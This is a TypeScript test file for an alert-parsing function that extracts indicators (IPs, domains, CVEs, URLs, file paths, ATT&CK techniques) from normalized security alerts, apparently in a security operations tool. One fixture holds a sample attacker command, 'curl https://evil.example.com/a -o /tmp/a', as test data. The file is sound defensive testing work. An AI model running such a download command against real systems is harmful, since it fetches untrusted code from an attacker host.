import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { NormalizedAlert } from '@watchfloor/sdk';
import { extractFromRecord } from './extract-record.ts';

function alert(part: Partial<NormalizedAlert>): NormalizedAlert {
  return {
    kind: 'alert',
    vendor: 'Example',
    product: 'Sensor',
    source_ref: null,
    title: '',
    description: '',
    category: '',
    severity: 'high',
    sensor: 'endpoint',
    occurred_at: null,
    entities: [],
    labels: [],
    links: [],
    flags: [],
    tactics: [],
    techniques: [],
    rule: { id: null, name: null },
    closure: null,
    ...part,
  };
}

describe('extractFromRecord', () => {
  test('joins entities, techniques and texts, each indicator once', () => {
    const record = alert({
      title: 'Beacon to evil.example.com',
      description: 'Seen from 192.0.2.1, CVE-2024-12345',
      techniques: ['T1071.001'],
      entities: [
        { type: 'ip', value: '192.0.2.1', role: 'source' },
        { type: 'command_line', value: 'curl https://evil.example.com/a -o /tmp/a', role: 'related' },
      ],
    });
    assert.deepEqual(extractFromRecord(record, '{}'), [
      { type: 'ip', value: '192.0.2.1', scope: 'documentation' },
      { type: 'technique', value: 'T1071.001' },
      { type: 'domain', value: 'evil.example.com' },
      { type: 'cve', value: 'CVE-2024-12345' },
      { type: 'url', value: 'https://evil.example.com/a' },
      { type: 'file_path', value: '/tmp/a' },
    ]);
  });

  test('hosts, users, processes, cloud resources and bare request targets are no indicators', () => {
    const record = alert({
      entities: [
        { type: 'host', value: 'server01', role: 'target' },
        { type: 'user', value: 'alice', role: 'actor' },
        { type: 'process_path', value: 'C:\\a.exe', role: 'related' },
        { type: 'cloud_resource', value: 'arn:aws:s3:::example', role: 'target' },
        { type: 'url', value: '/index.php', role: 'target' },
      ],
    });
    assert.deepEqual(extractFromRecord(record, ''), []);
  });

  test('a value that is known by itself carries its mark', () => {
    const record = alert({
      description: 'resolver 8.8.8.8, file d41d8cd98f00b204e9800998ecf8427e, host 45.0.0.7',
    });
    assert.deepEqual(
      extractFromRecord(record, '').map(({ value, known }) => [value, known]),
      [
        ['8.8.8.8', 'known_good'],
        ['d41d8cd98f00b204e9800998ecf8427e', 'known_good'],
        ['45.0.0.7', undefined],
      ],
    );
  });

  test('a raw line is searched, a raw JSON record is not', () => {
    const line = 'Jul 17 09:08:27 fw: denied 203.0.113.9';
    assert.deepEqual(extractFromRecord(alert({}), line), [
      { type: 'ip', value: '203.0.113.9', scope: 'documentation' },
    ]);
    assert.deepEqual(extractFromRecord(alert({}), '{"console":"https://console.example.com/1"}'), []);
    assert.deepEqual(extractFromRecord(alert({}), ' [{"ip":"203.0.113.9"}]'), []);
  });
});
